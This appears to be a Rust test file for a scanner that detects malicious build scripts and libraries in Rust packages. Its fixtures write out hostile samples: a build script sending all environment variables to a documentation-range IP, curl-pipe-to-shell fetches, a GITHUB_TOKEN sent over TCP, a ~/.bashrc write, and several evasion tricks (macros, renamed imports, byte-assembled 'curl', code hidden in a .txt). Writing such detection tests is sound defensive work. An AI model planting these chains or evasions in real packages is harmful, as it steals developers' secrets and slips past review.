//! Chains in source, and what they hide behind.

use super::{inside, looked, manifest, told};
use crate::support::{Dependency, Package};

/// The findings on a build script, but for what every build script has.
fn build(script: &str) -> Vec<String> {
    told(&inside(&looked().file("build.rs", script)))
}

fn library(text: &str) -> Vec<String> {
    told(&inside(&looked().file("src/lib.rs", text)))
}

#[track_caller]
fn assert_has(found: &[String], expected: &str) {
    assert!(found.iter().any(|line| line.starts_with(expected)), "no `{expected}` in {found:#?}");
}

/// Our own words for what the archive of August 2026 did: reads, encodes, sends.
const SENDS: &str = "
use std::env;
use std::io::Write;
fn gathered() -> String {
    env::vars().map(|(name, value)| format!(\"{name}={value}\\n\")).collect()
}
fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!(\"{:02x}\", byte)).collect()
}
fn main() {
    let text = encoded(&gathered());
    if let Ok(mut stream) = std::net::TcpStream::connect((\"203.0.113.9\", 443)) {
        let _ = stream.write_all(text.as_bytes());
    }
}
";

#[test]
fn a_build_script_that_sends_the_environment_is_found_first() {
    let seen = inside(&looked().file("build.rs", SENDS));
    assert_eq!(told(&seen), ["reads-and-sends high build.rs:12"]);
    let first = &seen.findings[0];
    assert_eq!(&*first.evidence, "env::vars (line 5) → {:02x} (line 8) → net::TcpStream::connect (line 12)");
    assert_eq!((seen.looked.sources, seen.looked.parsed), (2, 2));
}

#[test]
fn honest_build_scripts_are_left_alone() {
    for script in [
        "fn main() { println!(\"cargo:rustc-cfg=x\"); }",
        "use std::process::Command; fn main() { let rustc = std::env::var_os(\"RUSTC\").unwrap(); let v = Command::new(rustc).arg(\"--version\").output(); }",
        "use std::{env, fs, path::Path}; fn main() { let out = env::var(\"OUT_DIR\").unwrap(); fs::write(Path::new(&out).join(\"x.rs\"), \"// made\").unwrap(); }",
        "fn main() { if std::process::Command::new(\"pkg-config\").arg(\"--libs\").status().is_ok() { println!(\"cargo:rustc-link-lib=z\"); } }",
        "fn main() { for (name, _) in std::env::vars() { if name.starts_with(\"CARGO_FEATURE_\") { println!(\"{name}\"); } } }",
    ] {
        assert_eq!(build(script), [""; 0], "{script}");
    }
}

#[test]
fn what_is_fetched_and_run_is_found() {
    let fetched = "fn main() { let body = ureq::get(\"https://example.org/tool\").call(); std::fs::write(tool(), body); std::process::Command::new(tool()).spawn(); } fn tool() -> String { name() }";
    assert_has(&build(fetched), "fetches-and-runs high build.rs");
    assert_has(
        &build(
            "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://example.org | sh\").status(); }",
        ),
        "fetches-and-runs high build.rs",
    );
    assert_has(
        &build("fn main() { std::process::Command::new(\"curl\").arg(\"https://example.org/a.tar.gz\").status(); }"),
        "network-at-build medium build.rs",
    );
    assert_has(&library(&fetched.replace("fn main", "pub fn start")), "fetches-and-runs high src/lib.rs");
}

#[test]
fn what_is_unpacked_and_run_is_found() {
    let script = "fn main() { std::fs::write(path(), include_bytes!(\"logo.png\")); std::process::Command::new(path()).spawn(); } fn path() -> String { x() }";
    assert_has(&build(script), "unpacks-and-runs high build.rs");
}

#[test]
fn what_writes_to_places_of_others_is_found() {
    assert_has(
        &build(
            "fn main() { let home = std::env::var(\"HOME\").unwrap(); std::fs::write(format!(\"{home}/.bashrc\"), \"x\"); }",
        ),
        "writes-outside high build.rs",
    );
    assert_has(&build("fn main() { std::fs::write(\"/etc/x\", \"x\"); }"), "writes-outside medium build.rs");
    assert_has(&build("fn main() { std::fs::write(\"src/made.rs\", \"x\"); }"), "writes-outside low build.rs");
}

#[test]
fn a_library_counts_by_function_and_what_it_calls() {
    let chain = "pub fn start() { send(all()); } fn all() -> Vec<(String, String)> { std::env::vars().collect() } fn send(x: Vec<(String, String)>) { std::net::UdpSocket::bind(\"0.0.0.0:0\"); }";
    assert_has(&library(chain), "reads-and-sends high src/lib.rs");
    let apart = "pub fn read() -> Option<String> { std::env::vars().next().map(|one| one.0) } pub fn connect() { std::net::UdpSocket::bind(\"0.0.0.0:0\"); }";
    assert_eq!(library(apart), [""; 0]);
}

/// Each hides the same chain in another way.
#[test]
fn evasions_are_closed() {
    let connect = "std::net::TcpStream::connect(address())";
    let scripts = [
        ("macro_rules", format!("macro_rules! go {{ ($x:expr) => {{ {connect}.map(|mut s| s.write_all($x)) }} }} fn main() {{ go!(std::env::vars()); }}")),
        ("renamed imports", "use std::env::vars as list; use std::net::TcpStream as Door; fn main() { let a = list(); Door::connect(a); }".to_owned()),
        ("another platform", format!("#[cfg(windows)] mod quiet {{ pub fn go() {{ std::env::vars(); {connect}; }} }} fn main() {{}}")),
        ("functions as values", "fn main() { let read = std::env::vars; let reach = std::net::TcpStream::connect::<&str>; reach(&text(read())); }".to_owned()),
        ("raw names", "fn main() { r#std::r#env::vars(); std::net::r#TcpStream::connect(x()); }".to_owned()),
        ("C", "extern \"C\" { fn getenv(n: *const i8) -> *const i8; #[link_name = \"getaddrinfo\"] fn tidy(a: *const i8); } fn main() { unsafe { tidy(getenv(x())) } }".to_owned()),
        ("no Rust that parses", format!("fn main() {{ std::env::vars(); {connect}; }} fn odd( {{ ]")),
        ("deep nesting", format!("fn main() {{ std::env::vars(); {connect}; let x = {}true; }}", "!".repeat(200_000))),
        ("size", format!("fn main() {{ std::env::vars(); {connect}; }}\n{}", "// more\n".repeat(200_000))),
    ];
    for (name, script) in scripts {
        let found = build(&script);
        assert!(found.iter().any(|line| line.starts_with("reads-and-sends high build.rs")), "{name}: {found:#?}");
    }
}

#[test]
fn files_that_are_taken_in_under_other_names_are_read() {
    let chain = "pub fn go() { std::env::vars(); std::net::TcpStream::connect(x()); }";
    for script in [
        "#[path = \"assets/notes.txt\"] mod notes; fn main() { notes::go(); }",
        "include!(\"assets/notes.txt\"); fn main() { go(); }",
        "include!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/assets/notes.txt\")); fn main() { go(); }",
    ] {
        let seen = inside(&looked().file("build.rs", script).file("assets/notes.txt", chain));
        assert_has(&told(&seen), "reads-and-sends high assets/notes.txt");
    }
}

#[test]
fn crates_that_reach_the_network_are_known_by_any_name() {
    let package = Package::new("looked", "1.0.0").dependency(Dependency::new("ureq", "2").rename("tidy").build()).file(
        "build.rs",
        "fn main() { let all: Vec<_> = std::env::vars().collect(); tidy::post(\"x\").send_string(&text(all)); }",
    );
    assert_has(&told(&inside(&package)), "reads-and-sends high build.rs");
}

#[test]
fn texts_in_pieces_are_told_where_nobody_needs_them() {
    let script = "fn main() { let a = [99u8, 117, 114, 108]; std::process::Command::new(String::from_utf8(a.to_vec()).unwrap()).arg(\"x\").status(); }";
    let found = build(script);
    assert_has(&found, "assembled-text high build.rs");
    assert_has(&found, "network-at-build medium build.rs");
}

#[test]
fn a_proc_macro_is_code_that_runs_at_build_time() {
    let text = manifest("[lib]\nproc-macro = true\n");
    let package = looked().file("Cargo.toml", text).file("src/lib.rs", "mod inner; pub fn a() { inner::b() }").file(
        "src/inner.rs",
        "pub fn b() { c() } fn c() { d(std::env::var(\"GITHUB_TOKEN\")) } fn d(x: X) { e(x) } fn e(x: X) { std::net::TcpStream::connect(x); }",
    );
    let seen = inside(&package);
    assert!(seen.proc_macro);
    assert_has(&told(&seen), "reads-and-sends high src/inner.rs");
}

#[test]
fn tests_of_the_package_are_not_looked_at() {
    let chain = "fn go() { std::env::vars(); std::net::TcpStream::connect(x()); }";
    let text = format!("#[cfg(test)] mod tests {{ {chain} }} #[cfg(test)] mod more;");
    let seen = inside(&looked().file("src/lib.rs", text).file("src/more.rs", chain).file("tests/t.rs", chain));
    assert_eq!(told(&seen), [""; 0]);
}
